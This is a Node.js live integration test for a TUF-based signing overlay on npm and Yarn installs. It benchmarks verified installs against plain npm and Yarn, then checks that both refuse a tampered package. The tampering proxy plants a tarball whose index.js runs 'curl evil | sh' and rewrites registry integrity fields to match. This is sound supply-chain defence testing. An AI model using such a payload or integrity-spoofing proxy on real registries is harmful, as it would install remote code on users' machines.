#!/usr/bin/env node
// `npm run overlay:live` (opt-in, not part of npm test): overlay mode against the npm registry this machine
// is configured with (`npm config get registry`), as a team would run it (docs/overlay.md):
//  1. a project of well-known packages is installed with plain npm (its lockfile, and npm's cache warm);
//  2. tufpm-overlay init --upstream <registry>, approve --lockfile package-lock.json (timed), and the
//     yarn.lock plain Yarn writes for the same package.json;
//  3. the metadata is served by a local static server (tufpm-overlay's, with the documented cache headers);
//  4. tufpm-npm init --root-sha256 + tufpm-npm install (pins) + tufpm-npm ci over alternating rounds against
//     plain npm ci, and Yarn 4 with the tufpm plugin (yarn tuf init --metadata-url), install the tree;
//  5. a local proxy in front of the registry serves other bytes for one approved tarball (and a packument
//     whose integrity matches them): tufpm-npm and Yarn refuse it, the project untouched.
// Prints the figures (packages, seconds, bytes of metadata). Exit 0 only when every expectation held.
// Usage: node scripts/overlay-live.mjs [--big] [--keep]   (--big: a ~450-package tree; --keep: keep the temp dir)
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import { copyFile, mkdir, mkdtemp, readFile, readdir, rm, stat, writeFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';

const ROOT = fileURLToPath(new URL('..', import.meta.url));
const require = createRequire(join(ROOT, 'integration-tests', 'package.json'));
const { values: flags } = parseArgs({ options: { big: { type: 'boolean' }, keep: { type: 'boolean' } } });
const NPM_CLI = join(dirname(process.execPath), '..', 'lib', 'node_modules', 'npm', 'bin', 'npm-cli.js');
const YARN_JS = require.resolve('@yarnpkg/cli-dist/bin/yarn.js');
const PLUGIN = join(ROOT, 'packages', 'yarn-plugin-tuf', 'bundles', '@yarnpkg', 'plugin-tuf.js');
const OVERLAY = join(ROOT, 'packages', 'overlay', 'bin', 'tufpm-overlay.js');
const TUFPM_NPM = join(ROOT, 'packages', 'npm', 'dist', 'src', 'cli.js');
const TUFPM_REPO = join(ROOT, 'packages', 'repo', 'bin', 'tufpm-repo.js');
const { serveMetadata } = await import(join(ROOT, 'packages', 'overlay', 'dist', 'src', 'index.js'));
const { buildPackageTarball } = await import(join(ROOT, 'packages', 'registry', 'dist', 'src', 'index.js'));

const DEPS = flags.big
  ? { jest: '^29.7.0', webpack: '^5.90.0', eslint: '^8.57.0', typescript: '^5.4.0', express: '^4.19.0' }
  : { express: '^4.19.0', chalk: '^4.1.2', commander: '^12.0.0', debug: '^4.3.4', semver: '^7.6.0' };

const problems = [];
const figures = {};
const expect = (ok, what) => { if (!ok) problems.push(what); return ok; };
const log = (s) => process.stderr.write(`${s}\n`);

// CPU time (user+sys of the child, GNU time) beside wall time where /usr/bin/time exists: the machine is shared
const GNU_TIME = existsSync('/usr/bin/time') ? '/usr/bin/time' : undefined;
let timeFiles = 0;

function run(file, args, cwd, env = {}) {
  return new Promise((resolve) => {
    const started = performance.now();
    const timeFile = join(tmpdir(), `tufpm-overlay-live-time-${process.pid}-${timeFiles++}`);
    const [cmd, argv] = GNU_TIME ? [GNU_TIME, ['-f', '%U %S', '-o', timeFile, process.execPath, file, ...args]] : [process.execPath, [file, ...args]];
    execFile(cmd, argv, { cwd, env: { ...process.env, ...env }, maxBuffer: 256 * 1024 * 1024 }, (error, stdout, stderr) => {
      const code = error ? (typeof error.code === 'number' ? error.code : 1) : 0;
      const seconds = Math.round((performance.now() - started) / 10) / 100;
      let cpuSeconds;
      if (GNU_TIME) {
        try {
          const [u, s] = readFileSync(timeFile, 'utf8').trim().split('\n').pop().split(' ').map(Number);
          cpuSeconds = Math.round((u + s) * 100) / 100;
        } catch (timeError) {
          // GNU time wrote nothing (the child could not start): wall time only
          if (timeError.code !== 'ENOENT') throw timeError;
        }
        rmSync(timeFile, { force: true });
      }
      resolve({ code, stdout, stderr, seconds, ...(cpuSeconds === undefined ? {} : { cpuSeconds }) });
    });
  });
}

async function must(label, file, args, cwd, env) {
  const r = await run(file, args, cwd, env);
  if (r.code !== 0) throw new Error(`${label} failed (exit ${r.code})\n${r.stdout.slice(-3000)}${r.stderr.slice(-3000)}`);
  log(`ok  ${label} (${r.seconds} s${r.cpuSeconds === undefined ? '' : `, ${r.cpuSeconds} s CPU`})`);
  return r;
}

async function digestOf(dir, files) {
  const h = createHash('sha256');
  for (const f of files) {
    try { h.update(f).update(await readFile(join(dir, f))); } catch (e) { if (e.code !== 'ENOENT') throw e; h.update(`${f}:missing`); }
  }
  try { h.update((await readdir(join(dir, 'node_modules'))).sort().join(',')); } catch (e) { if (e.code !== 'ENOENT') throw e; }
  return h.digest('hex');
}

/** A proxy in front of the registry: packuments with tarball URLs pointing at itself, one tarball replaced. */
async function tamperingProxy(upstream, victim) {
  const evil = buildPackageTarball({ name: victim.name, version: victim.version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });
  const evilIntegrity = `sha512-${createHash('sha512').update(evil).digest('base64')}`;
  const server = createServer((req, res) => {
    void (async () => {
      const path = req.url ?? '/';
      if (path === `/${victim.targetPath}`) {
        res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': evil.length }).end(evil);
        return;
      }
      const r = await fetch(`${upstream}${path.slice(1)}`, { headers: { accept: req.headers.accept ?? '*/*' } });
      const type = r.headers.get('content-type') ?? 'application/octet-stream';
      let body = Buffer.from(await r.arrayBuffer());
      if (type.includes('json')) {
        const doc = JSON.parse(body.toString('utf8'));
        const entry = doc?.name === victim.name ? doc.versions?.[victim.version] : undefined;
        if (entry?.dist) {
          entry.dist.integrity = evilIntegrity;
          entry.dist.shasum = createHash('sha1').update(evil).digest('hex');
          delete entry.dist.signatures;
        }
        body = Buffer.from(JSON.stringify(doc).split(upstream).join(`http://127.0.0.1:${server.address().port}/`));
      }
      res.writeHead(r.status, { 'content-type': type, 'content-length': body.length }).end(body);
    })().catch((error) => { res.writeHead(502).end(String(error)); });
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${server.address().port}/`, close: () => new Promise((r) => server.close(r)) };
}

const base = await mkdtemp(join(tmpdir(), 'tufpm-overlay-live-'));
let metadata;
let proxy;
try {
  const upstream = (await must('npm config get registry', NPM_CLI, ['config', 'get', 'registry'], base)).stdout.trim().replace(/\/?$/, '/');
  figures.upstream = upstream;
  // 1. the team's project today: plain npm against the registry (fills npm's cache too)
  const team = join(base, 'team-project');
  await mkdir(team);
  await writeFile(join(team, 'package.json'), JSON.stringify({ name: 'team-app', version: '1.0.0', private: true, dependencies: DEPS }, null, 2));
  await must('plain npm install', NPM_CLI, ['install', '--ignore-scripts', '--no-audit', '--no-fund'], team);
  const lock = JSON.parse(await readFile(join(team, 'package-lock.json'), 'utf8'));
  figures.packages = Object.keys(lock.packages).filter((k) => k !== '').length;

  // 2. the overlay repository, a reviewer's key, the approval
  const repo = join(base, 'team-tuf');
  await must('tufpm-repo keygen', TUFPM_REPO, ['keygen', join(base, 'alice')], base);
  const init = await must('tufpm-overlay init', OVERLAY, ['init', '--upstream', upstream, '--repo', repo, '--reviewer', join(base, 'alice.pub.json'), '--json'], base);
  const rootSha256 = JSON.parse(init.stdout).rootSha256;
  const approve = await must('tufpm-overlay approve (package-lock.json)', OVERLAY, ['approve', '--lockfile', join(team, 'package-lock.json'), '--repo', repo, '--key', join(base, 'alice.pem'), '--json'], base);
  const approved = JSON.parse(approve.stdout);
  figures.approve = { new: approved.new.length, unapprovable: approved.unapprovable.length, seconds: approved.seconds, wallSeconds: approve.seconds };
  expect(approved.outcome === 'published', `approve published (${approved.outcome})`);

  // plain Yarn's lockfile for the same package.json, approved too (what a Yarn team commits)
  const yarnTeam = join(base, 'team-yarn');
  await mkdir(yarnTeam);
  await copyFile(join(team, 'package.json'), join(yarnTeam, 'package.json'));
  const yarnrc = (extra) => [`yarnPath: ${JSON.stringify(YARN_JS)}`, `npmRegistryServer: ${JSON.stringify(upstream.replace(/\/$/, ''))}`, 'enableTelemetry: false', 'enableGlobalCache: false', `cacheFolder: ${JSON.stringify(join(base, 'yarn-cache'))}`, ...extra].join('\n') + '\n';
  await writeFile(join(yarnTeam, '.yarnrc.yml'), yarnrc([]));
  await must('plain yarn (lockfile only)', YARN_JS, ['install', '--mode=update-lockfile'], yarnTeam, { HOME: join(base, 'yarn-home') });
  const approveYarn = await must('tufpm-overlay approve (yarn.lock)', OVERLAY, ['approve', '--lockfile', join(yarnTeam, 'yarn.lock'), '--repo', repo, '--key', join(base, 'alice.pem'), '--json'], base);
  figures.approveYarnLock = { new: JSON.parse(approveYarn.stdout).new.length, approved: JSON.parse(approveYarn.stdout).approved.length };

  // 3. serve the metadata
  metadata = await serveMetadata(join(repo, 'metadata'));
  let bytes = 0;
  for (const f of await readdir(join(repo, 'metadata'))) bytes += (await stat(join(repo, 'metadata', f))).size;
  const latestRole = (await readdir(join(repo, 'metadata'))).filter((f) => f.endsWith('._approved.json')).sort((a, b) => parseInt(b) - parseInt(a))[0];
  figures.metadata = { directoryBytes: bytes, approvalRoleBytes: (await stat(join(repo, 'metadata', latestRole))).size };

  // 4. installs verified against the team's repository
  const npmProject = join(base, 'npm-project');
  await mkdir(npmProject);
  await copyFile(join(team, 'package.json'), join(npmProject, 'package.json'));
  await copyFile(join(team, 'package-lock.json'), join(npmProject, 'package-lock.json'));
  // as docs/overlay.md says: one init writes tufpm-root.json, tufpm-lock.json and the project's .npmrc
  await must('tufpm-npm init --root-sha256', TUFPM_NPM, ['init', '--registry', upstream, '--metadata-url', metadata.url, '--root-sha256', rootSha256], npmProject);
  // as docs/overlay.md says: the first verified install pins the lockfile's tree (ci refuses unpinned packages)
  const ci = await must('tufpm-npm install (first verified install, pins the tree)', TUFPM_NPM, ['install', '--ignore-scripts'], npmProject);
  // plain npm on the same lockfile, the same warm npm cache, no node_modules, alternating rounds: the
  // comparison. Both without npm's update check: plain npm otherwise waits for a fetch of npm's own
  // packument from the registry once a week (`_update-notifier-last-checked` in the npm cache), which
  // tufpm-npm never makes: that, not verification, is what a single run compares.
  const plainProject = join(base, 'plain-project');
  await mkdir(plainProject);
  await copyFile(join(team, 'package.json'), join(plainProject, 'package.json'));
  await copyFile(join(team, 'package-lock.json'), join(plainProject, 'package-lock.json'));
  const rounds = { plain: [], tufpm: [] };
  const quiet = { npm_config_update_notifier: 'false' };
  for (let round = 0; round < 3; round++) {
    for (const side of round % 2 === 0 ? ['plain', 'tufpm'] : ['tufpm', 'plain']) {
      const dir = side === 'plain' ? plainProject : npmProject;
      await rm(join(dir, 'node_modules'), { recursive: true, force: true });
      const r = side === 'plain'
        ? await must('plain npm ci', NPM_CLI, ['ci', '--ignore-scripts', '--no-audit', '--no-fund'], dir, quiet)
        : await must('tufpm-npm ci (metadata cached)', TUFPM_NPM, ['ci', '--ignore-scripts'], dir, quiet);
      rounds[side].push(r);
    }
  }
  const med = (xs) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)];
  figures.npm = {
    tufpmNpmFirstInstallSeconds: ci.seconds,
    rounds: 3,
    plainNpmCi: { wallSeconds: med(rounds.plain.map((r) => r.seconds)), cpuSeconds: med(rounds.plain.map((r) => r.cpuSeconds ?? NaN)) },
    tufpmNpmCi: { wallSeconds: med(rounds.tufpm.map((r) => r.seconds)), cpuSeconds: med(rounds.tufpm.map((r) => r.cpuSeconds ?? NaN)) },
  };

  const yarnProject = join(base, 'yarn-project');
  await mkdir(yarnProject);
  await copyFile(join(yarnTeam, 'package.json'), join(yarnProject, 'package.json'));
  await copyFile(join(yarnTeam, 'yarn.lock'), join(yarnProject, 'yarn.lock'));
  const pluginRc = ['unsafeHttpWhitelist: ["127.0.0.1"]', 'plugins:', `  - path: ${JSON.stringify(PLUGIN)}`, '    spec: "@yarnpkg/plugin-tuf"'];
  await writeFile(join(yarnProject, '.yarnrc.yml'), yarnrc(pluginRc));
  // as docs/overlay.md says: init writes tufMetadataUrl to .yarnrc.yml once the root and the metadata verified
  await must('yarn tuf init --metadata-url --root-sha256', YARN_JS, ['tuf', 'init', '--metadata-url', metadata.url, '--root-sha256', rootSha256], yarnProject, { HOME: join(base, 'yarn-home') });
  expect((await readFile(join(yarnProject, '.yarnrc.yml'), 'utf8')).includes('tufMetadataUrl'), 'yarn tuf init wrote tufMetadataUrl');
  const yarnInstall = await must('yarn install (tufpm plugin)', YARN_JS, ['install'], yarnProject, { HOME: join(base, 'yarn-home') });
  figures.yarn = { installSeconds: yarnInstall.seconds };

  // 5. one approved tarball, other bytes, through a proxy: both installs refuse it
  const victimKey = Object.keys(lock.packages).find((k) => k.startsWith('node_modules/') && !k.slice(13).includes('node_modules/') && !k.slice(13).startsWith('@'));
  const victimName = victimKey.slice('node_modules/'.length);
  const victimVersion = lock.packages[victimKey].version;
  const victim = { name: victimName, version: victimVersion, targetPath: `${victimName}/-/${victimName}-${victimVersion}.tgz` };
  proxy = await tamperingProxy(upstream, victim);
  figures.attack = { package: `${victim.name}@${victim.version}` };
  const attacked = join(base, 'attacked-npm');
  await mkdir(attacked);
  await writeFile(join(attacked, 'package.json'), JSON.stringify({ name: 'attacked', version: '1.0.0', private: true, dependencies: { [victim.name]: victim.version } }, null, 2));
  // fetch-retries=0: npm retries a download that failed its integrity with a 10-60 s back-off; we want the answer
  await writeFile(join(attacked, '.npmrc'), `registry=${proxy.url}\ntufpm-metadata-url=${metadata.url}\ncache=${join(base, 'attack-npm-cache')}\nfetch-retries=0\n`);
  await copyFile(join(repo, 'metadata', '1.root.json'), join(attacked, 'tufpm-root.json'));
  const before = await digestOf(attacked, ['package.json', 'package-lock.json', 'tufpm-lock.json']);
  // a cold npm cache: with the machine's warm one, npm takes the approved bytes from it (by the signed
  // integrity tufpm-npm enforces) and never downloads the replaced ones, which proves less
  const refusedNpm = await run(TUFPM_NPM, ['install', '--ignore-scripts'], attacked, { npm_config_cache: join(base, 'attack-npm-cache') });
  const code = /TUF_TARBALL_MISMATCH/.exec(refusedNpm.stderr)?.[0] ?? /(TUF_[A-Z_]+):/.exec(refusedNpm.stderr)?.[1];
  figures.attack.tufpmNpm = code ?? `exit ${refusedNpm.code}`;
  figures.attack.tufpmNpmSeconds = refusedNpm.seconds;
  expect(refusedNpm.code === 1 && code === 'TUF_TARBALL_MISMATCH', `tufpm-npm refuses the replaced tarball (exit ${refusedNpm.code}, ${code})\n${refusedNpm.stderr.slice(-1500)}`);
  expect(before === (await digestOf(attacked, ['package.json', 'package-lock.json', 'tufpm-lock.json'])), 'the npm project is unchanged');

  const attackedYarn = join(base, 'attacked-yarn');
  await mkdir(attackedYarn);
  await copyFile(join(attacked, 'package.json'), join(attackedYarn, 'package.json'));
  await copyFile(join(repo, 'metadata', '1.root.json'), join(attackedYarn, 'tufpm-root.json'));
  await writeFile(join(attackedYarn, '.yarnrc.yml'), yarnrc([...pluginRc, `tufMetadataUrl: ${JSON.stringify(metadata.url)}`]).replace(/npmRegistryServer: .*/, `npmRegistryServer: ${JSON.stringify(proxy.url.replace(/\/$/, ''))}`).replace(/cacheFolder: .*/, `cacheFolder: ${JSON.stringify(join(base, 'attack-yarn-cache'))}`));
  const beforeYarn = await digestOf(attackedYarn, ['yarn.lock', 'tufpm-lock.json', '.pnp.cjs']);
  const refusedYarn = await run(YARN_JS, ['install'], attackedYarn, { HOME: join(base, 'attack-yarn-home') });
  const yarnCode = /TUF_TARBALL_MISMATCH/.exec(refusedYarn.stdout)?.[0] ?? /(TUF_[A-Z_]+) \|/.exec(refusedYarn.stdout)?.[1];
  figures.attack.yarn = yarnCode ?? `exit ${refusedYarn.code}`;
  figures.attack.yarnSeconds = refusedYarn.seconds;
  expect(refusedYarn.code === 1 && yarnCode === 'TUF_TARBALL_MISMATCH', `Yarn refuses the replaced tarball (exit ${refusedYarn.code}, ${yarnCode})\n${refusedYarn.stdout.slice(-1500)}`);
  expect(beforeYarn === (await digestOf(attackedYarn, ['yarn.lock', 'tufpm-lock.json', '.pnp.cjs'])), 'the Yarn project is unchanged');
} catch (error) {
  problems.push(error instanceof Error ? error.message : String(error));
} finally {
  await proxy?.close();
  await metadata?.close();
  if (!flags.keep) await rm(base, { recursive: true, force: true });
  else log(`kept ${base}`);
}
process.stdout.write(`${JSON.stringify(figures, null, 2)}\n`);
for (const p of problems) log(`FAILED: ${p}`);
log(problems.length === 0 ? 'overlay:live passed' : `overlay:live: ${problems.length} problem(s)`);
process.exitCode = problems.length === 0 ? 0 : 1;
